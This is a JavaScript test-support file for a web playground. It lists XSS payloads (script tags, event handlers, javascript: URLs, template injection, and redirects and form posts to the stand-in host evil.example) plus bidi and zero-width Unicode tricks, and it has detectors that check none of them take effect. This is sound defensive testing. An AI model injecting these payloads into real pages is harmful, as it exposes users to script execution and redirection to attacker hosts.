// An attacker's texts in every field that the playground shows, and their effects that must never happen.

import assert from "node:assert/strict";
import { readdir } from "node:fs/promises";
import path from "node:path";
import { PACKAGE } from "../support/package.mjs";
import { files } from "../support/vectors.mjs";

/** In every attack, so that it can be found again where it must not be. */
export const TRACE = "zqx";

const RUN = `globalThis.ran.push(1)//${TRACE}`;

export const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=/${TRACE} onerror="${RUN}">`,
  `"><svg onload=${RUN}>`,
  `'"--></title></textarea></style></pre><iframe srcdoc="<script>parent.ran.push(1)</script>" title=${TRACE}>`,
  `<style>*{display:none}</style><base href=//evil.example/${TRACE}><meta http-equiv=refresh content="0;url=//evil.example">`,
  `<a href="javascript:${RUN}">${TRACE}</a><form action=//evil.example><input name=${TRACE}></form>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} url(//evil.example/${TRACE})`,
  `__proto__ constructor toString ${TRACE}`,
];

/** Turned around, unseen, piled up, cut off. */
export const LETTERS = [
  `${TRACE} \u202egnp.exe\u202c \u2066x\u2069 \u202bx \u2067x \u061c\u200f`,
  `${TRACE} pay\u200bment\u200d\u2060\ufeff\u00ad\u{e0041}\u{e007f}`,
  `${TRACE} Z${"\u0311\u0322\u0353".repeat(1_000)}`,
  `${TRACE} \u0000\u0007\u001b[2J\u009b31m\u2028\u2029\ufff9\ufffb`,
  `${TRACE} ﷽𒐫𒈙⸻꧅ ${"\u0e47".repeat(500)}`,
  `${TRACE}${"W".repeat(3_000)}`,
];

/** Half characters, which only an escape in JSON can hold. */
export const HALVES = [`${TRACE} \ud800`, `\udc00\ud800 ${TRACE}`];

/** Texts of the conformance vectors: each is an attack on some place where a text is shown. */
export const TEXTS = files("text").flatMap(({ cases }) => cases.flatMap(({ text }) => (text === undefined ? [] : [text])));

const MEMBERS = ["type", "name", "description", "endpoint", "version", "homepage", "image", "creatorAddress", "tags", "pricing", "access", "authentication"];

/** A manifest that says the same everywhere, as name and as value. */
export function manifestOf(text) {
  const members = MEMBERS.map((name) => [name, text]);
  return JSON.stringify({ ...Object.fromEntries(members), inputs: { [text]: text, type: [text] }, outputs: text, [text]: { [text]: [text] } }, null, 1);
}

/** Before any script of the page runs: notes the trace of an attack that ran. */
export function watch() {
  globalThis.ran = [];
  for (const name of ["alert", "confirm", "prompt", "open"]) {
    globalThis[name] = () => globalThis.ran.push(name);
  }
}

/** The links of a page of this kind, which no data can add to. */
const LINKS = [
  ...["#verdict", "#source", "#findings", "#diagnosis", "#repair", "#canonical", "#share"],
  "https://ercs.ethereum.org/ERCS/erc-8257",
  ...["", "/issues", "/blob/main/LICENSE-MIT"].map((path) => `https://github.com/erc8257/erc8257${path}`),
];
const LOADING = ["SCRIPT", "IFRAME", "OBJECT", "EMBED", "IMG", "SVG", "VIDEO", "AUDIO", "BASE", "META", "LINK", "STYLE", "FRAME", "PORTAL"];

/** That nothing ran, nothing became an element or an attribute, and all that is shown can be seen. */
export async function unharmed(page, why) {
  const found = await page.evaluate(look, { TRACE, LINKS, LOADING });
  assert.deepEqual(found, { ran: [], loading: found.first, first: found.first, links: [], attributes: [], unseen: [], heavy: [] }, why);
  const own = await readdir(path.join(PACKAGE, "dist/playground"));
  const asked = await page.evaluate(() => performance.getEntriesByType("resource").map(({ name }) => new URL(name)).map(({ origin, pathname }) => [origin === location.origin, pathname.slice(1)]));
  assert.deepEqual(asked.filter(([ours, name]) => ours && name !== "" && !own.includes(name)), [], why);
}

/** In the page. The first look gives the elements that it loads by itself. */
function look({ TRACE, LINKS, LOADING }) {
  const all = (root) => [...root.querySelectorAll("*")].flatMap((element) => [element, ...(element.shadowRoot === null ? [] : all(element.shadowRoot))]);
  const elements = all(document);
  const named = (list) => list.map(({ tagName }) => tagName).sort().join(" ");
  // The editor puts pictures of nothing beside what cannot be seen, for the caret to stand at.
  const loads = (element) => LOADING.includes(element.tagName.toUpperCase()) && !(element.matches("img.cm-widgetBuffer") && element.attributes.length <= 2);
  const loading = named(elements.filter(loads));
  globalThis.firstLook ??= loading;
  const attributes = elements.flatMap((element) => [...element.attributes].map(({ name, value }) => [element, name, value]));
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const unseen = [];
  for (let node = texts.nextNode(); node !== null; node = texts.nextNode()) {
    const { parentElement, data } = node;
    if (parentElement.tagName !== "TEXTAREA" && /(?![\t\n])[\p{Cc}\p{Cf}\p{Cn}\p{Co}\p{Cs}\p{Zl}\p{Zp}]/u.test(data)) {
      unseen.push(`${parentElement.tagName} ${data.slice(0, 80)}`);
    }
  }
  const lines = all(document.querySelector(".editor")?.shadowRoot ?? document.createElement("i")).filter((element) => element.matches(".cm-line"));
  unseen.push(...lines.map(({ textContent }) => textContent).filter((text) => /[\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2060\u{e0000}-\u{e007f}]/u.test(text)));
  return {
    ran: globalThis.ran,
    loading,
    first: globalThis.firstLook,
    links: elements.filter((element) => element.tagName === "A" && !LINKS.includes(element.getAttribute("href"))).map(({ outerHTML }) => outerHTML),
    attributes: attributes.filter(([, name, value]) => name.startsWith("on") || value.includes(TRACE)).map(([element, name]) => `${element.tagName} ${name}`),
    unseen,
    // Work is counted, not timed: the elements that a browser has to lay out.
    heavy: elements.length > 20_000 ? [elements.length] : [],
  };
}

/** The elements that are wider than the screen. */
export async function tooWide(page) {
  return page.evaluate(() => {
    const { clientWidth, scrollWidth } = document.documentElement;
    const wide = [...document.querySelectorAll("body *")].filter((element) => element.getBoundingClientRect().right > clientWidth + 1);
    return scrollWidth > clientWidth ? wide.map(({ tagName, id, className }) => `${tagName} ${id} ${className}`) : [];
  });
}
